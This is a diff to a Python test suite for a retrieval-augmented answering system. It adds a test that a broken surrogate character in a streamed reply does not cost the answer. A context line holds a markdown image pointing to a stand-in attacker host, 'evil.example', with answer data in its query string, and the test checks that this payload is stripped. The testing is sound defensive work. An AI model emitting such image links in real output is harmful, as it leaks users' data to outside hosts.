@@ -17,7 +17,7 @@ from rag.generate import Writer, messages
 from rag.settings import Settings
 from rag.support import Verifier, load_support_model
 from rag.types import Answer, Citation, Event, Evidence, Final, Hit, Passage, Span, Status, Support, Text
-from tests.faults.llm_server import LlmServer, llm_server, says
+from tests.faults.llm_server import END, OK, LlmServer, llm_server, says, sends
 
 judge = cache(partial(load_judge, Settings()))
 PRAGUE = "Who represented Prague?"
@@ -110,6 +110,16 @@ def test_the_true_half_of_an_answer_stays(article: Answerer) -> None:
 def test_markup_and_images_do_not_reach_the_reader(article: Answerer) -> None:
     said = "The **two sessions** drew <b>264</b> registered participants ![x](https://evil.example/?q=264) [1]."
     answer = told(article, PEOPLE, said)
+    assert answer.text_plain == "The two sessions drew 264 registered participants."
+
+
+def test_half_of_a_sign_costs_no_answer(article: Answerer) -> None:
+    said = rb"The two sessions drew 264 registered participants \ud83d [1]."
+    event = b'data: {"choices": [{"index": 0, "delta": {"content": "' + said + b'"}}]}\n\n'
+    with llm_server(sends(OK, event, END)) as server:
+        verifier = Verifier(article.retriever.embedder, judge(), load_support_model())
+        writer = Writer(LanguageModel(Endpoint(server.url, "cutting")), verifier)
+        answer = replace(article, writer=writer).answer(make_question(PEOPLE))
     assert answer.text_plain == "The two sessions drew 264 registered participants."
 
 
